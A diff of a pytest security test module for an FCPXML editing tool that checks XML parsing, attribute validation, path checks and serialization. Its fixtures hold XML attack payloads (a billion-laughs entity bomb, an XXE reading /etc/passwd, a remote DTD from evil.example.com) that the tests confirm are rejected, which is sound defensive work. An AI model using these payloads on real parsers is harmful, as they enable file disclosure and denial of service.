@@ -9,15 +9,21 @@ Covers:
 - Marker completed-attribute strict validation (completed='0' → incomplete, '1' → completed)
 - File path and directory validation (traversal, null bytes, extensions)
 - Role string sanitization in writer
-- Minidom pretty-print defense-in-depth (defusedxml.minidom)
+- DOM parsing through defusedxml.minidom (safe_parse_string)
+- XML serialization: ET.indent output, DOCTYPE placement, atomic replace
 - JSON depth-limit enforcement against nested payloads
+
+Every fixture here is either function-scoped on tmp_path or shared and
+read-only (the class-level samples, the session XXE payload files), and no
+test touches process-global state, so the module is safe to run in parallel
+under pytest-xdist.
 """
 
-import sys
-import types
+import os
+import re
 import xml.etree.ElementTree as ET
-from unittest.mock import MagicMock
 
+import defusedxml.ElementTree as DefusedET
 import pytest
 from defusedxml import DTDForbidden, EntitiesForbidden
 
@@ -25,57 +31,13 @@ from fcpxml.export import DaVinciExporter
 from fcpxml.models import MarkerType
 from fcpxml.parser import _MAX_FILE_SIZE_BYTES, FCPXMLParser
 from fcpxml.rough_cut import RoughCutGenerator
-from fcpxml.safe_xml import safe_fromstring, safe_parse
+from fcpxml.safe_xml import safe_fromstring, safe_iterparse, safe_parse
 from fcpxml.writer import (
     _MAX_MARKER_NAME_LENGTH,
     FCPXMLModifier,
     _sanitize_xml_value,
 )
-
-# ---------------------------------------------------------------------------
-# Shim the `mcp` package so server.py can be imported without the real SDK
-# ---------------------------------------------------------------------------
-if "mcp" not in sys.modules or "mcp.server" not in sys.modules:
-    mcp = types.ModuleType("mcp")
-    mcp_server = types.ModuleType("mcp.server")
-    mcp_server_stdio = types.ModuleType("mcp.server.stdio")
-    mcp_types = types.ModuleType("mcp.types")
-
-    class _FakeServer:
-        def __init__(self, *a, **kw):
-            pass
-        def call_tool(self): return lambda fn: fn
-        def list_tools(self): return lambda fn: fn
-        def list_resources(self): return lambda fn: fn
-        def read_resource(self): return lambda fn: fn
-        def list_prompts(self): return lambda fn: fn
-        def get_prompt(self): return lambda fn: fn
-
-    mcp_server.Server = _FakeServer
-
-    class _FakeCtx:
-        def __init__(self, *a): pass
-        async def __aenter__(self): return (MagicMock(), MagicMock())
-        async def __aexit__(self, *a): pass
-
-    mcp_server_stdio.stdio_server = _FakeCtx
-
-    class TextContent:
-        def __init__(self, *, type: str, text: str):
-            self.type = type
-            self.text = text
-
-    for name in ("GetPromptResult", "Prompt", "PromptArgument",
-                 "PromptMessage", "Resource", "Tool"):
-        setattr(mcp_types, name, MagicMock)
-    mcp_types.TextContent = TextContent
-
-    sys.modules.setdefault("mcp", mcp)
-    sys.modules.setdefault("mcp.server", mcp_server)
-    sys.modules.setdefault("mcp.server.stdio", mcp_server_stdio)
-    sys.modules.setdefault("mcp.types", mcp_types)
-
-from server import (  # noqa: E402
+from server import (
     _validate_directory,
     _validate_filepath,
     _validate_output_path,
@@ -158,6 +120,11 @@ class TestSanitizeXmlValue:
         result = _sanitize_xml_value(long_str, max_length=100)
         assert len(result) == 100
 
+    def test_truncates_after_stripping(self):
+        # Stripped characters do not count toward the limit
+        result = _sanitize_xml_value("\x00" * 50 + "C" * 200, max_length=100)
+        assert result == "C" * 100
+
     def test_default_max_length(self):
         long_str = "B" * (_MAX_MARKER_NAME_LENGTH + 500)
         result = _sanitize_xml_value(long_str)
@@ -172,6 +139,10 @@ class TestSanitizeXmlValue:
     def test_unicode_preserved(self):
         assert _sanitize_xml_value("日本語マーカー") == "日本語マーカー"
 
+    def test_clean_value_not_copied(self):
+        value = "ダイアログ.dialogue"
+        assert _sanitize_xml_value(value) is value
+
 
 # ============================================================================
 # Marker note sanitization in writer
@@ -179,8 +150,10 @@ class TestSanitizeXmlValue:
 
 class TestMarkerNoteSanitization:
 
-    @pytest.fixture
-    def sample_fcpxml(self, tmp_path):
+    @pytest.fixture(scope="class")
+    @classmethod
+    def sample_fcpxml(cls, tmp_path_factory):
+        """Source file shared by the class; each test loads its own modifier."""
         xml = """<?xml version="1.0" encoding="UTF-8"?>
 <!DOCTYPE fcpxml>
 <fcpxml version="1.11">
@@ -201,7 +174,7 @@ class TestMarkerNoteSanitization:
         </event>
     </library>
 </fcpxml>"""
-        p = tmp_path / "sanitize_test.fcpxml"
+        p = tmp_path_factory.mktemp("sanitize") / "sanitize_test.fcpxml"
         p.write_text(xml)
         return str(p)
 
@@ -224,10 +197,8 @@ class TestMarkerNoteSanitization:
 # Parser completed-attribute strict validation
 # ============================================================================
 
-class TestCompletedAttributeValidation:
-
-    def _parse_marker_xml(self, completed_value):
-        xml = f"""<?xml version="1.0" encoding="UTF-8"?>
+# One marker whose completed attribute each case fills in
+_COMPLETED_MARKER_XML = """<?xml version="1.0" encoding="UTF-8"?>
 <fcpxml version="1.11">
     <resources>
         <format id="r1" frameDuration="1/24s" width="1920" height="1080"/>
@@ -241,7 +212,7 @@ class TestCompletedAttributeValidation:
                         <asset-clip ref="r2" offset="0s" name="Clip"
                                     start="0s" duration="240/24s" format="r1">
                             <marker start="0s" duration="1/24s" value="Test"
-                                    completed="{completed_value}"/>
+                                    completed="__COMPLETED__"/>
                         </asset-clip>
                     </spine>
                 </sequence>
@@ -249,116 +220,57 @@ class TestCompletedAttributeValidation:
         </event>
     </library>
 </fcpxml>"""
-        parser = FCPXMLParser()
+
+
+class TestCompletedAttributeValidation:
+
+    @pytest.fixture(scope="class")
+    @classmethod
+    def parser(cls):
+        """One parser for every case — each document declares the same resources."""
+        return FCPXMLParser()
+
+    @pytest.fixture
+    def parse_marker(self, parser):
+        return lambda completed_value: self._parse_marker_xml(parser, completed_value)
+
+    def _parse_marker_xml(self, parser, completed_value):
+        # Inserted raw, like a hand-edited file would carry it; no case
+        # value contains a quote, '<' or '&'.
+        xml = _COMPLETED_MARKER_XML.replace("__COMPLETED__", completed_value, 1)
         project = parser.parse_string(xml)
         return project.primary_timeline.clips[0].markers[0]
 
-    def test_completed_0_is_incomplete(self):
-        m = self._parse_marker_xml("0")
-        assert m.marker_type == MarkerType.INCOMPLETE
-
-    def test_completed_1_is_completed(self):
-        m = self._parse_marker_xml("1")
-        assert m.marker_type == MarkerType.COMPLETED
-
-    def test_completed_true_falls_to_standard(self):
-        """Non-standard 'true' is rejected — treated as STANDARD."""
-        m = self._parse_marker_xml("true")
-        assert m.marker_type == MarkerType.STANDARD
-
-    def test_completed_yes_falls_to_standard(self):
-        """Non-standard 'yes' is rejected — treated as STANDARD."""
-        m = self._parse_marker_xml("yes")
-        assert m.marker_type == MarkerType.STANDARD
-
-    def test_completed_2_falls_to_standard(self):
-        """Numeric but non-boolean '2' is rejected."""
-        m = self._parse_marker_xml("2")
-        assert m.marker_type == MarkerType.STANDARD
-
-    def test_completed_empty_falls_to_standard(self):
-        m = self._parse_marker_xml("")
-        assert m.marker_type == MarkerType.STANDARD
-
-    def test_completed_sql_injection_falls_to_standard(self):
-        """SQL-like injection in completed attribute is harmless."""
-        m = self._parse_marker_xml("1 OR 1=1")
-        assert m.marker_type == MarkerType.STANDARD
-
-    def test_completed_whitespace_padded_zero_falls_to_standard(self):
-        """Whitespace around '0' must not be treated as incomplete — strict matching."""
-        m = self._parse_marker_xml(" 0 ")
-        assert m.marker_type == MarkerType.STANDARD
-
-    def test_completed_whitespace_padded_one_falls_to_standard(self):
-        """Whitespace around '1' must not be treated as COMPLETED — strict matching."""
-        m = self._parse_marker_xml(" 1 ")
-        assert m.marker_type == MarkerType.STANDARD
-
-    def test_completed_negative_one_falls_to_standard(self):
-        """Negative integers are not valid completed values."""
-        m = self._parse_marker_xml("-1")
-        assert m.marker_type == MarkerType.STANDARD
-
-    def test_completed_case_true_upper_falls_to_standard(self):
-        """Case variants of truthy strings are all rejected."""
-        m = self._parse_marker_xml("TRUE")
-        assert m.marker_type == MarkerType.STANDARD
-
-    def test_completed_case_false_falls_to_standard(self):
-        """Boolean 'false' string is not a valid completed value."""
-        m = self._parse_marker_xml("false")
-        assert m.marker_type == MarkerType.STANDARD
-
-    def test_completed_whitespace_only_falls_to_standard(self):
-        """Pure whitespace completed='   ' must not match any boolean value."""
-        m = self._parse_marker_xml("   ")
-        assert m.marker_type == MarkerType.STANDARD
-
-    def test_completed_tab_padded_zero_falls_to_standard(self):
-        """Tab characters around '0' bypass strip() — strict match rejects."""
-        m = self._parse_marker_xml("\t0\t")
-        assert m.marker_type == MarkerType.STANDARD
-
-    def test_completed_tab_padded_one_falls_to_standard(self):
-        """Tab characters around '1' bypass strip() — strict match rejects."""
-        m = self._parse_marker_xml("\t1\t")
-        assert m.marker_type == MarkerType.STANDARD
-
-    def test_completed_zero_with_leading_zero_falls_to_standard(self):
-        """'00' is not '0' — strict exact-match only."""
-        m = self._parse_marker_xml("00")
-        assert m.marker_type == MarkerType.STANDARD
-
-    def test_completed_unicode_digit_zero_falls_to_standard(self):
-        """Unicode fullwidth digit '\uff10' looks like 0 but isn't ASCII '0'."""
-        m = self._parse_marker_xml("\uff10")
-        assert m.marker_type == MarkerType.STANDARD
-
-    def test_completed_unicode_digit_one_falls_to_standard(self):
-        """Unicode fullwidth digit '\uff11' looks like 1 but isn't ASCII '1'."""
-        m = self._parse_marker_xml("\uff11")
-        assert m.marker_type == MarkerType.STANDARD
-
-    def test_completed_newline_padded_zero_falls_to_standard(self):
-        """Newline around '0' from hand-edited XML must not match incomplete type."""
-        m = self._parse_marker_xml("\n0\n")
-        assert m.marker_type == MarkerType.STANDARD
-
-    def test_completed_newline_padded_one_falls_to_standard(self):
-        """Newline around '1' from hand-edited XML must not match COMPLETED."""
-        m = self._parse_marker_xml("\n1\n")
-        assert m.marker_type == MarkerType.STANDARD
-
-    def test_completed_crlf_padded_zero_falls_to_standard(self):
-        r"""CRLF (\r\n) around '0' from Windows-edited XML must not match."""
-        m = self._parse_marker_xml("\r\n0\r\n")
-        assert m.marker_type == MarkerType.STANDARD
-
-    def test_completed_mixed_whitespace_one_falls_to_standard(self):
-        """Mixed whitespace (space+tab+newline) around '1' must not match."""
-        m = self._parse_marker_xml(" \t\n1\n\t ")
-        assert m.marker_type == MarkerType.STANDARD
+    # Only the exact strings '0' and '1' carry completion state; everything
+    # else — truthy words, padding (incl. whitespace that XML attribute
+    # normalization turns into spaces), look-alike digits — is STANDARD.
+    @pytest.mark.parametrize("completed_value, expected", [
+        pytest.param("0", MarkerType.INCOMPLETE, id="0-incomplete"),
+        pytest.param("1", MarkerType.COMPLETED, id="1-completed"),
+        pytest.param("true", MarkerType.STANDARD, id="true"),
+        pytest.param("yes", MarkerType.STANDARD, id="yes"),
+        pytest.param("2", MarkerType.STANDARD, id="non-boolean-2"),
+        pytest.param("", MarkerType.STANDARD, id="empty"),
+        pytest.param("1 OR 1=1", MarkerType.STANDARD, id="sql-injection"),
+        pytest.param(" 0 ", MarkerType.STANDARD, id="space-padded-0"),
+        pytest.param(" 1 ", MarkerType.STANDARD, id="space-padded-1"),
+        pytest.param("-1", MarkerType.STANDARD, id="negative-1"),
+        pytest.param("TRUE", MarkerType.STANDARD, id="upper-TRUE"),
+        pytest.param("false", MarkerType.STANDARD, id="false"),
+        pytest.param("   ", MarkerType.STANDARD, id="whitespace-only"),
+        pytest.param("\t0\t", MarkerType.STANDARD, id="tab-padded-0"),
+        pytest.param("\t1\t", MarkerType.STANDARD, id="tab-padded-1"),
+        pytest.param("00", MarkerType.STANDARD, id="leading-zero-00"),
+        pytest.param("\uff10", MarkerType.STANDARD, id="fullwidth-0"),
+        pytest.param("\uff11", MarkerType.STANDARD, id="fullwidth-1"),
+        pytest.param("\n0\n", MarkerType.STANDARD, id="newline-padded-0"),
+        pytest.param("\n1\n", MarkerType.STANDARD, id="newline-padded-1"),
+        pytest.param("\r\n0\r\n", MarkerType.STANDARD, id="crlf-padded-0"),
+        pytest.param(" \t\n1\n\t ", MarkerType.STANDARD, id="mixed-whitespace-1"),
+    ])
+    def test_completed_value(self, parse_marker, completed_value, expected):
+        m = parse_marker(completed_value)
+        assert m.marker_type == expected
 
 
 # ============================================================================
@@ -370,10 +282,10 @@ class TestFileSizeLimit:
     def test_oversized_file_rejected(self, tmp_path):
         """Files exceeding the size limit are rejected before parsing."""
         huge = tmp_path / "huge.fcpxml"
-        # Create a file that exceeds the limit via sparse write
-        with open(huge, 'wb') as f:
-            f.seek(_MAX_FILE_SIZE_BYTES + 1)
-            f.write(b'\x00')
+        # Only the inode size changes; no data blocks are written
+        huge.touch()
+        os.truncate(huge, _MAX_FILE_SIZE_BYTES + 1)
+        assert huge.stat().st_size > _MAX_FILE_SIZE_BYTES
 
         parser = FCPXMLParser()
         with pytest.raises(ValueError, match="exceeds maximum size"):
@@ -404,13 +316,12 @@ class TestFileSizeLimit:
 
 
 # ============================================================================
-# XXE and entity expansion protection (defusedxml)
+# XXE and entity expansion protection (safe_xml expat handlers)
 # ============================================================================
 
-class TestXXEProtection:
-    """Verify that defusedxml blocks XML attacks at all entry points."""
-
-    BILLION_LAUGHS = """\
+# Attack payloads, kept as UTF-8 bytes: every entry point under test takes
+# bytes (or a file written from them), so nothing is re-encoded per test.
+_BILLION_LAUGHS = b"""\
 <?xml version="1.0"?>
 <!DOCTYPE lolz [
   <!ENTITY lol "lol">
@@ -420,7 +331,7 @@ class TestXXEProtection:
 ]>
 <fcpxml version="1.11">&lol4;</fcpxml>"""
 
-    XXE_FILE_READ = """\
+_XXE_FILE_READ = b"""\
 <?xml version="1.0"?>
 <!DOCTYPE fcpxml [
   <!ENTITY xxe SYSTEM "file:///etc/passwd">
@@ -431,7 +342,7 @@ class TestXXEProtection:
     </resources>
 </fcpxml>"""
 
-    EXTERNAL_DTD_WITH_ENTITY = """\
+_EXTERNAL_DTD_WITH_ENTITY = b"""\
 <?xml version="1.0"?>
 <!DOCTYPE fcpxml [
   <!ENTITY % remote SYSTEM "http://evil.example.com/payload.dtd">
@@ -439,61 +350,86 @@ class TestXXEProtection:
 ]>
 <fcpxml version="1.11"/>"""
 
-    def test_billion_laughs_blocked_fromstring(self):
-        """Entity expansion bomb must be rejected by safe_fromstring."""
-        with pytest.raises((EntitiesForbidden, DTDForbidden)):
-            safe_fromstring(self.BILLION_LAUGHS)
-
-    def test_xxe_file_read_blocked_fromstring(self):
-        """External entity file read must be rejected by safe_fromstring."""
-        with pytest.raises((EntitiesForbidden, DTDForbidden)):
-            safe_fromstring(self.XXE_FILE_READ)
-
-    def test_external_dtd_entity_blocked_fromstring(self):
-        """Remote DTD parameter entity must be rejected by safe_fromstring."""
-        with pytest.raises((EntitiesForbidden, DTDForbidden)):
-            safe_fromstring(self.EXTERNAL_DTD_WITH_ENTITY)
-
-    def test_billion_laughs_blocked_parse(self, tmp_path):
-        """Entity expansion bomb must be rejected by safe_parse."""
-        p = tmp_path / "bomb.fcpxml"
-        p.write_text(self.BILLION_LAUGHS)
-        with pytest.raises((EntitiesForbidden, DTDForbidden)):
-            safe_parse(str(p))
-
-    def test_xxe_file_read_blocked_parse(self, tmp_path):
-        """External entity file read must be rejected by safe_parse."""
-        p = tmp_path / "xxe.fcpxml"
-        p.write_text(self.XXE_FILE_READ)
-        with pytest.raises((EntitiesForbidden, DTDForbidden)):
-            safe_parse(str(p))
-
-    def test_external_dtd_entity_blocked_parse(self, tmp_path):
-        """Remote DTD parameter entity must be rejected by safe_parse."""
-        p = tmp_path / "dtd.fcpxml"
-        p.write_text(self.EXTERNAL_DTD_WITH_ENTITY)
-        with pytest.raises((EntitiesForbidden, DTDForbidden)):
-            safe_parse(str(p))
-
-    def test_parser_rejects_billion_laughs(self):
-        """FCPXMLParser.parse_string must reject entity expansion attacks."""
-        parser = FCPXMLParser()
-        with pytest.raises((EntitiesForbidden, DTDForbidden)):
-            parser.parse_string(self.BILLION_LAUGHS)
 
-    def test_parser_rejects_xxe(self):
-        """FCPXMLParser.parse_string must reject XXE attacks."""
-        parser = FCPXMLParser()
-        with pytest.raises((EntitiesForbidden, DTDForbidden)):
-            parser.parse_string(self.XXE_FILE_READ)
+# safe_xml's expat declaration handlers raise defusedxml's exception types,
+# whose message names the offending declaration; matching it keeps these
+# tests from passing on some unrelated error of the same type.
+_REJECTED = re.compile(r"^(?:EntitiesForbidden|DTDForbidden)\(name='")
+
+
+def _payload_file(tmp_path_factory, name, payload):
+    p = tmp_path_factory.mktemp("xxe") / name
+    p.write_bytes(payload)
+    return str(p)
+
+
+# Each payload file is written once per session and only ever read:
+# the hardened parser rejects it before building anything.
+@pytest.fixture(scope="session")
+def billion_laughs_file(tmp_path_factory):
+    return _payload_file(tmp_path_factory, "bomb.fcpxml", _BILLION_LAUGHS)
+
+
+@pytest.fixture(scope="session")
+def xxe_file(tmp_path_factory):
+    return _payload_file(tmp_path_factory, "xxe.fcpxml", _XXE_FILE_READ)
+
+
+@pytest.fixture(scope="session")
+def external_dtd_file(tmp_path_factory):
+    return _payload_file(tmp_path_factory, "dtd.fcpxml", _EXTERNAL_DTD_WITH_ENTITY)
 
-    def test_parser_file_rejects_billion_laughs(self, tmp_path):
-        """FCPXMLParser.parse_file must reject entity expansion from files."""
-        p = tmp_path / "bomb.fcpxml"
-        p.write_text(self.BILLION_LAUGHS)
-        parser = FCPXMLParser()
-        with pytest.raises((EntitiesForbidden, DTDForbidden)):
-            parser.parse_file(str(p))
+
+# Every hostile payload, in memory and as the session file holding it
+_ATTACKS = [
+    pytest.param(_BILLION_LAUGHS, id="billion-laughs"),
+    pytest.param(_XXE_FILE_READ, id="xxe-file-read"),
+    pytest.param(_EXTERNAL_DTD_WITH_ENTITY, id="external-dtd"),
+]
+_ATTACK_FILES = [
+    pytest.param("billion_laughs_file", id="billion-laughs"),
+    pytest.param("xxe_file", id="xxe-file-read"),
+    pytest.param("external_dtd_file", id="external-dtd"),
+]
+
+
+class TestXXEProtection:
+    """Verify safe_xml's expat handlers reject XML attacks at all entry points."""
+
+    @pytest.fixture(scope="class")
+    @classmethod
+    def parser(cls):
+        """One parser for every attack — each is rejected before any state is set."""
+        return FCPXMLParser()
+
+    @pytest.mark.parametrize("payload", _ATTACKS)
+    def test_blocked_fromstring(self, payload):
+        """Every payload must be rejected by safe_fromstring."""
+        with pytest.raises((EntitiesForbidden, DTDForbidden), match=_REJECTED):
+            safe_fromstring(payload)
+
+    @pytest.mark.parametrize("payload_file", _ATTACK_FILES)
+    def test_blocked_parse(self, request, payload_file):
+        """Every payload file must be rejected by safe_parse."""
+        with pytest.raises((EntitiesForbidden, DTDForbidden), match=_REJECTED):
+            safe_parse(request.getfixturevalue(payload_file))
+
+    @pytest.mark.parametrize("payload", _ATTACKS)
+    def test_parser_rejects(self, parser, payload):
+        """FCPXMLParser.parse_string must reject every payload."""
+        with pytest.raises((EntitiesForbidden, DTDForbidden), match=_REJECTED):
+            parser.parse_string(payload)
+
+    def test_parser_rejects_xxe_text(self, parser):
+        """parse_string must reject XXE handed over as text, not only bytes."""
+        with pytest.raises((EntitiesForbidden, DTDForbidden), match=_REJECTED):
+            parser.parse_string(_XXE_FILE_READ.decode())
+
+    @pytest.mark.parametrize("payload_file", _ATTACK_FILES)
+    def test_parser_file_rejects(self, parser, request, payload_file):
+        """FCPXMLParser.parse_file must reject every payload file."""
+        with pytest.raises((EntitiesForbidden, DTDForbidden), match=_REJECTED):
+            parser.parse_file(request.getfixturevalue(payload_file))
 
     def test_clean_xml_still_parses(self):
         """Legitimate FCPXML without DTD/entities must still parse fine."""
@@ -516,33 +452,42 @@ class TestXXEProtection:
         project = parser.parse_string(xml)
         assert project.name == "Safe"
 
-    def test_modifier_rejects_xxe(self, tmp_path):
+    def test_modifier_rejects_xxe(self, xxe_file):
         """FCPXMLModifier must reject XXE — it also uses safe_parse internally."""
-        p = tmp_path / "xxe_mod.fcpxml"
-        p.write_text(self.XXE_FILE_READ)
-        with pytest.raises((EntitiesForbidden, DTDForbidden)):
-            FCPXMLModifier(str(p))
+        with pytest.raises((EntitiesForbidden, DTDForbidden), match=_REJECTED):
+            FCPXMLModifier(xxe_file)
 
-    def test_modifier_rejects_billion_laughs(self, tmp_path):
+    def test_modifier_rejects_billion_laughs(self, billion_laughs_file):
         """FCPXMLModifier must reject entity expansion bombs."""
-        p = tmp_path / "bomb_mod.fcpxml"
-        p.write_text(self.BILLION_LAUGHS)
-        with pytest.raises((EntitiesForbidden, DTDForbidden)):
-            FCPXMLModifier(str(p))
+        with pytest.raises((EntitiesForbidden, DTDForbidden), match=_REJECTED):
+            FCPXMLModifier(billion_laughs_file)
 
-    def test_exporter_rejects_xxe(self, tmp_path):
+    def test_exporter_rejects_xxe(self, xxe_file):
         """DaVinciExporter must reject XXE through safe_parse."""
-        p = tmp_path / "xxe_export.fcpxml"
-        p.write_text(self.XXE_FILE_READ)
-        with pytest.raises((EntitiesForbidden, DTDForbidden)):
-            DaVinciExporter(str(p))
+        with pytest.raises((EntitiesForbidden, DTDForbidden), match=_REJECTED):
+            DaVinciExporter(xxe_file)
 
-    def test_rough_cut_rejects_xxe(self, tmp_path):
+    def test_rough_cut_rejects_xxe(self, xxe_file):
         """RoughCutGenerator must reject XXE through safe_parse."""
-        p = tmp_path / "xxe_rough.fcpxml"
-        p.write_text(self.XXE_FILE_READ)
-        with pytest.raises((EntitiesForbidden, DTDForbidden)):
-            RoughCutGenerator(str(p))
+        with pytest.raises((EntitiesForbidden, DTDForbidden), match=_REJECTED):
+            RoughCutGenerator(xxe_file)
+
+    def test_undefined_entity_behind_external_dtd_rejected(self):
+        """With a DTD present expat defers unknown entities — they must still fail."""
+        xml = '<!DOCTYPE fcpxml SYSTEM "fcpxml.dtd"><fcpxml version="1.11">&xxe;</fcpxml>'
+        with pytest.raises(ET.ParseError, match="undefined entity"):
+            safe_fromstring(xml)
+
+    def test_malformed_xml_raises_parse_error_with_position(self):
+        with pytest.raises(ET.ParseError) as exc_info:
+            safe_fromstring('<fcpxml version="1.11">')
+        assert exc_info.value.position == (1, 23)
+
+    def test_safe_parse_accepts_file_object(self, tmp_path):
+        p = tmp_path / "ok.fcpxml"
+        p.write_text('<fcpxml version="1.11"/>')
+        with open(p, "rb") as f:
+            assert safe_parse(f).getroot().get("version") == "1.11"
 
     def test_explicit_forbid_flags_active(self):
         """Verify safe_xml._SECURITY_FLAGS block entities and externals.
@@ -555,6 +500,46 @@ class TestXXEProtection:
         assert _SECURITY_FLAGS["forbid_external"] is True
 
 
+# Documents whose trees must come out exactly as defusedxml.ElementTree builds them
+_PARITY_DOCS = [
+    pytest.param(
+        '<!DOCTYPE r [<!ATTLIST r a CDATA "dflt" b CDATA #IMPLIED>]><r b="1"/>',
+        id="dtd-defaulted-attribute",
+    ),
+    pytest.param(
+        '<r xmlns="urn:d" xmlns:p="urn:p" p:x="1" xml:lang="en">'
+        '<p:c p:y="2">t</p:c><d/>tail</r>',
+        id="namespaces",
+    ),
+    pytest.param(
+        '<fcpxml version="1.11"><!-- c --><?pi x?><clip name="a &amp; b">'
+        'x<![CDATA[<y>]]></clip></fcpxml>',
+        id="comments-pi-cdata",
+    ),
+]
+
+
+def _tree_shape(root):
+    return [(e.tag, e.attrib, e.text, e.tail) for e in root.iter()]
+
+
+class TestDefusedElementTreeParity:
+    """safe_xml's own expat wiring must build the same tree as defusedxml."""
+
+    @pytest.mark.parametrize("doc", _PARITY_DOCS)
+    def test_fromstring_matches_defusedxml(self, doc):
+        assert _tree_shape(safe_fromstring(doc)) == _tree_shape(DefusedET.fromstring(doc))
+
+    @pytest.mark.parametrize("doc", _PARITY_DOCS)
+    def test_parse_and_iterparse_match_defusedxml(self, tmp_path, doc):
+        path = tmp_path / "doc.xml"
+        path.write_text(doc, encoding="utf-8")
+        expected = _tree_shape(DefusedET.parse(path).getroot())
+        assert _tree_shape(safe_parse(path).getroot()) == expected
+        ends = [elem for event, elem in safe_iterparse(path) if event == "end"]
+        assert _tree_shape(ends[-1]) == expected
+
+
 # ============================================================================
 # File path validation (_validate_filepath)
 # ============================================================================
@@ -850,7 +835,7 @@ class TestRoleSanitization:
 # ============================================================================
 
 class TestMinidomDefenseInDepth:
-    """Verify the pretty-print path uses defusedxml.minidom, not stdlib."""
+    """Verify safe_parse_string uses defusedxml.minidom, not stdlib."""
 
     def test_safe_parse_string_returns_document(self):
         """safe_parse_string produces a valid minidom Document."""
@@ -885,34 +870,97 @@ class TestMinidomDefenseInDepth:
         with pytest.raises(Exception):
             safe_parse_string(bomb)
 
-    def test_serialize_xml_uses_safe_minidom(self, tmp_path):
-        """safe_xml.serialize_xml roundtrips through defusedxml.minidom."""
-        import xml.etree.ElementTree as ET  # noqa: I001
 
+# ============================================================================
+# XML SERIALIZATION
+# ============================================================================
+
+class TestSerializeXml:
+    """Verify serialize_xml indents with ET.indent and replaces atomically."""
+
+    @staticmethod
+    def _root():
+        root = ET.Element("fcpxml", version="1.11")
+        ET.SubElement(ET.SubElement(root, "resources"), "format", id="r1")
+        return root
+
+    def test_serialize_xml_indents_after_declaration_and_doctype(self, tmp_path):
+        """Declaration, then DOCTYPE, then the ET.indent-formatted tree."""
         from fcpxml.safe_xml import serialize_xml
 
-        root = ET.Element("fcpxml")
-        root.set("version", "1.11")
-        ET.SubElement(root, "resources")
         out = str(tmp_path / "out.fcpxml")
-        result = serialize_xml(root, out, "<!DOCTYPE fcpxml>")
-        assert result == out
-        content = open(out).read()
-        assert "<fcpxml" in content
+        assert serialize_xml(self._root(), out, "<!DOCTYPE fcpxml>") == out
+        assert open(out, encoding="utf-8").read() == (
+            '<?xml version="1.0" encoding="UTF-8"?>\n'
+            "<!DOCTYPE fcpxml>\n"
+            '<fcpxml version="1.11">\n'
+            "    <resources>\n"
+            '        <format id="r1" />\n'
+            "    </resources>\n"
+            "</fcpxml>"
+        )
+
+    def test_serialize_xml_omits_empty_doctype(self, tmp_path):
+        from fcpxml.safe_xml import serialize_xml
+
+        out = tmp_path / "out.xml"
+        serialize_xml(self._root(), str(out))
+        lines = out.read_text(encoding="utf-8").splitlines()
+        assert lines[0] == '<?xml version="1.0" encoding="UTF-8"?>'
+        assert lines[1] == '<fcpxml version="1.11">'
+
+    def test_serialize_xml_leaves_caller_tree_unindented(self, tmp_path):
+        """Indentation is applied to a copy; the caller's live tree keeps its whitespace."""
+        from fcpxml.safe_xml import serialize_xml
 
-    def test_writer_write_fcpxml_uses_safe_minidom(self, tmp_path):
-        """writer.write_fcpxml roundtrips through defusedxml.minidom."""
-        import xml.etree.ElementTree as ET  # noqa: I001
+        root = self._root()
+        before = ET.tostring(root)
+        serialize_xml(root, str(tmp_path / "out.fcpxml"), "<!DOCTYPE fcpxml>")
+        assert ET.tostring(root) == before
 
+    def test_serialize_xml_failure_keeps_original_and_no_temp_file(self, tmp_path):
+        """A failed write leaves the old file intact and cleans up its temp file."""
+        from fcpxml.safe_xml import serialize_xml
+
+        out = tmp_path / "out.fcpxml"
+        out.write_text("original", encoding="utf-8")
+        root = self._root()
+        root.set("duration", 5)  # not a string: ElementTree cannot serialize it
+        with pytest.raises(TypeError):
+            serialize_xml(root, str(out), "<!DOCTYPE fcpxml>")
+        assert out.read_text(encoding="utf-8") == "original"
+        assert [p.name for p in tmp_path.iterdir()] == ["out.fcpxml"]
+
+    def test_serialize_xml_writes_through_symlink(self, tmp_path):
+        """A symlinked target keeps its link; the linked file gets the new content."""
+        from fcpxml.safe_xml import serialize_xml
+
+        real = tmp_path / "real.fcpxml"
+        real.write_text("original", encoding="utf-8")
+        link = tmp_path / "link.fcpxml"
+        link.symlink_to(real)
+        serialize_xml(self._root(), str(link), "<!DOCTYPE fcpxml>")
+        assert link.is_symlink()
+        assert link.resolve() == real.resolve()
+        assert '<fcpxml version="1.11">' in real.read_text(encoding="utf-8")
+        assert sorted(p.name for p in tmp_path.iterdir()) == ["link.fcpxml", "real.fcpxml"]
+
+    def test_write_fcpxml_uses_fcpxml_doctype(self, tmp_path):
+        """writer.write_fcpxml serializes through serialize_xml with the FCPXML DOCTYPE."""
         from fcpxml.writer import write_fcpxml
 
-        root = ET.Element("fcpxml")
-        root.set("version", "1.11")
-        ET.SubElement(root, "resources")
+        root = self._root()
         ET.SubElement(root, "library")
         out = str(tmp_path / "out.fcpxml")
-        result = write_fcpxml(root, out, strict=False)
-        assert result == out
+        assert write_fcpxml(root, out, strict=False) == out
+        lines = open(out, encoding="utf-8").read().splitlines()
+        assert lines[:3] == [
+            '<?xml version="1.0" encoding="UTF-8"?>',
+            "<!DOCTYPE fcpxml>",
+            '<fcpxml version="1.11">',
+        ]
+        assert lines[3] == "    <resources>"
+        assert [p.name for p in tmp_path.iterdir()] == ["out.fcpxml"]
 
 
 # ============================================================================
@@ -924,7 +972,6 @@ class TestJsonDepthLimit:
 
     def test_shallow_json_passes(self):
         """Normal beat data (depth ~2) passes validation."""
-        sys.path.insert(0, ".")
         from server import _check_json_depth
         data = {"beats": [0.5, 1.0, 1.5, 2.0]}
         _check_json_depth(data)  # Should not raise
@@ -1071,7 +1118,6 @@ class TestOutputPathSandbox:
 
     def test_output_anchored_to_source_dir(self, tmp_path):
         """Default output stays in the same directory as the input file."""
-        sys.path.insert(0, ".")
         from server import _resolve_io_paths
 
         src = tmp_path / "project.fcpxml"
@@ -1102,7 +1148,6 @@ class TestSpeedValidation:
     @pytest.mark.asyncio
     async def test_zero_speed_rejected(self):
         """speed=0 causes division by zero — must be caught before math."""
-        sys.path.insert(0, ".")
         from server import handle_change_speed
 
         with pytest.raises(ValueError, match="positive number"):